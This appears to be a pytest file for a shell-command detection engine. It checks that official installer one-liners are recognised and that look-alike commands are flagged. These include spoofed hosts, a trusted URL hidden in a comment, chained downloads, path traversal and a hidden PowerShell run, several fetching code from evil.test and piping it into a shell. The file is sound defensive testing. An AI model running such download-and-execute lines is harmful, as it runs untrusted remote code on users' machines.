"""Known installers are recognised by parsed URL, and every trick to borrow their trust fails."""

from pathlib import Path

import pytest

from app.detection import Engine, Level


@pytest.mark.parametrize(
    "command",
    [
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
        "irm get.scoop.sh | iex",
        'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
        "curl -LsSf https://astral.sh/uv/install.sh | sh",
        "curl -fsSL https://bun.sh/install | bash",
        "irm https://deno.land/install.ps1 | iex",
        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
        "curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh",
        "curl -fsSL https://ollama.com/install.sh | sh",
        "iwr https://get.pnpm.io/install.ps1 -useb | iex",
        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
        "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient)"
        ".DownloadString('https://community.chocolatey.org/install.ps1'))",
    ],
)
def test_official_installers_are_info(engine: Engine, command: str) -> None:
    verdict = engine.analyze(command)
    assert verdict.level is Level.INFO, verdict.rule_ids
    assert "PG-INFO-KNOWN-INSTALLER" in verdict.rule_ids
    assert "official" in verdict.summary


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL https://sh.rustup.rs@evil.test/x.sh | sh",  # user part hides the real host
        "curl -fsSL https://raw.githubusercontent.com.evil.test/Homebrew/install/x.sh | bash",
        "curl http://evil.test/p | bash # https://sh.rustup.rs",  # trusted URL only in a comment
        "curl -fsSL https://bun.sh/install | bash && curl -s https://evil.test/x | sh",  # mixed chain
        "curl -fsSL http://sh.rustup.rs | sh",  # plain HTTP can be tampered with on the way
        "curl -fsSL https://raw.githubusercontent.com/attacker/tools/main/x.sh | sh",  # other owner
        "curl -fsSL https://pastebin.com/raw/abcd1234 | bash",  # never-trusted host
        "irm https://get.scoop.sh | iex; powershell -w hidden -c calc",  # installer plus hidden run
        "curl -fsSL https://sh.rustup.rs:8443/ | sh",  # a port of its own: not where it is documented
        "irm https://get.scoop.sh:4443 | iex",
    ],
)
def test_borrowed_trust_is_refused(engine: Engine, command: str) -> None:
    verdict = engine.analyze(command)
    assert verdict.level >= Level.SUSPICIOUS, verdict.rule_ids
    assert "PG-INFO-KNOWN-INSTALLER" not in verdict.rule_ids


def test_deceptive_installer_lookalikes_are_malicious(engine: Engine) -> None:
    for command in (
        "curl -fsSL https://sh.rustup.rs@evil.test/x.sh | sh",
        "curl http://evil.test/p | bash # https://sh.rustup.rs",
    ):
        assert engine.analyze(command).level is Level.MALICIOUS, command


def test_policy_can_trust_an_internal_installer() -> None:
    from app.detection.engine import default_trust_path
    from app.detection.trust import TrustList

    trust = TrustList.load(default_trust_path(), extra_installers=["https://tools.corp.example/"])
    engine = Engine(trust=trust, strict=True)
    verdict = engine.analyze("curl -fsSL https://tools.corp.example/install.sh | sh")
    assert verdict.level is Level.INFO
    assert (
        Engine(strict=True).analyze("curl -fsSL https://tools.corp.example/install.sh | sh").flagged
    )


def test_an_installer_on_https_own_port_is_still_the_installer() -> None:
    from app.detection.engine import default_trust_path
    from app.detection.indicators import parse_url
    from app.detection.trust import TrustList

    trust = TrustList.load(default_trust_path())
    named = {
        raw: trust.installer_for(parse_url(raw))  # type: ignore[arg-type]
        for raw in ("https://get.k3s.io", "https://get.k3s.io:443/", "https://get.k3s.io:8443/")
    }
    assert named == {
        "https://get.k3s.io": "K3s",
        "https://get.k3s.io:443/": "K3s",
        "https://get.k3s.io:8443/": None,
    }


def test_a_word_named_installer_is_trusted_but_no_vendor_to_imitate(tmp_path: Path) -> None:
    from app.detection.indicators import parse_url
    from app.detection.trust import TrustList

    listed = tmp_path / "trust.yaml"
    listed.write_text(
        "installers:\n"
        "  - name: Widget\n    urls: [https://get.widgetctl.example/install.sh]\n"
        "  - name: Lantern\n    urls: [https://dl.lantern.example/install.sh]\n    word: true\n",
        encoding="utf-8",
    )
    trust = TrustList.load(listed)
    urls = {
        raw: parse_url(raw)
        for raw in (
            "https://dl.lantern.example/install.sh",
            "https://lantern-festival.test/x.sh",
            "https://widgetctl-cdn.test/x.sh",
        )
    }
    assert trust.installer_for(urls["https://dl.lantern.example/install.sh"]) == "Lantern"  # type: ignore[arg-type]
    assert trust.imitation_of(urls["https://lantern-festival.test/x.sh"]) is None  # type: ignore[arg-type]
    assert trust.imitation_of(urls["https://widgetctl-cdn.test/x.sh"])  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("page", "guide"),
    [
        ("https://developers.google.com/identity/protocols/oauth2/native-app", True),
        (
            "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
            True,
        ),
        ("https://datatracker.ietf.org/doc/html/rfc8252", True),
        # Microsoft Learn's forum, another Google page, plain HTTP, a look-alike host, userinfo
        ("https://learn.microsoft.com/en-us/answers/questions/1442310/redirect", False),
        ("https://developers.google.com/search/docs", False),
        ("http://developers.google.com/identity/protocols/oauth2/native-app", False),
        ("https://developers.google.com.sign-in-check.test/identity/", False),
        ("https://developers.google.com@sso-check.test/identity/", False),
    ],
)
def test_a_sign_in_services_own_guide_is_known_by_exact_host_and_path(
    page: str, guide: bool
) -> None:
    """trust.yaml `sign_in_docs`: a loopback redirect with a code copied from these pages is the
    guide's example (engine._sign_in_guide); no other page can claim to be one."""
    from app.detection.engine import default_trust_path
    from app.detection.indicators import parse_url
    from app.detection.trust import TrustList

    parsed = parse_url(page)
    assert parsed is not None
    assert TrustList.load(default_trust_path()).documents_sign_in(parsed) is guide


@pytest.mark.parametrize(
    ("address", "library"),
    [
        ("https://code.jquery.com/jquery-3.7.1.min.js", True),
        ("https://cdnjs.cloudflare.com/ajax/libs/moment.js/2.30.1/moment.min.js", True),
        ("https://ajax.googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js", True),
        ("https://d3js.org/d3.v7.min.js", True),
        # cdnjs outside its libraries, a dot segment out of them, plain HTTP, another port, a
        # user part, a look-alike host, npm's CDNs (anyone's package)
        ("https://cdnjs.cloudflare.com/cdn-cgi/trace", False),
        ("https://cdnjs.cloudflare.com/ajax/libs/../../x/evil.js", False),
        ("https://cdnjs.cloudflare.com/ajax/libs/%2e%2e/%2e%2e/x/evil.js", False),
        ("http://code.jquery.com/jquery-3.7.1.min.js", False),
        ("https://code.jquery.com:8443/jquery-3.7.1.min.js", False),
        ("https://code.jquery.com@cdn-relay.test/jquery.min.js", False),
        ("https://code.jquery.com.cdn-relay.test/jquery.min.js", False),
        ("https://unpkg.com/jquery@3.7.1/dist/jquery.min.js", False),
        ("https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js", False),
    ],
)
def test_a_library_cdn_is_known_by_exact_host_and_path(address: str, library: bool) -> None:
    """trust.yaml `library_cdns`: a console snippet loading only such files is information
    (engine._library_in_console); no other address can claim to be one."""
    from app.detection.engine import default_trust_path
    from app.detection.indicators import parse_url
    from app.detection.trust import TrustList

    parsed = parse_url(address)
    assert parsed is not None
    assert TrustList.load(default_trust_path()).library_file(parsed) is library


@pytest.mark.parametrize(
    "address",
    [
        "https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh",
        "https://raw.githubusercontent.com/someone/else/main/install.sh",
        "https://raw.githubusercontent.com/Homebrew/install/../../someone/x.sh",
        "https://get.k3s.io:8443/",
        "http://sh.rustup.rs",
        "https://sh.rustup.rs",
        "https://user@sh.rustup.rs",
        "hxxps://sh[.]rustup[.]rs",
        "https://fnm.vercel.app/install",
        "https://other.vercel.app/install",
        "https://evil.example/x.sh",
    ],
)
def test_the_engine_reads_an_address_trust_as_classify_does(engine: Engine, address: str) -> None:
    """The engine looks the installer up once and reads the trust from it (_read_structure):
    the same as TrustList.classify and installer_for asked apart."""
    from app.detection.indicators import parse_url

    url = parse_url(address)
    assert url is not None
    fetched = engine.examine(f"curl -fsSL {address} | sh").analysis.urls
    assert fetched and fetched[0].url.full == url.full
    assert fetched[0].trust is engine.trust.classify(url)
    assert fetched[0].installer == engine.trust.installer_for(url)
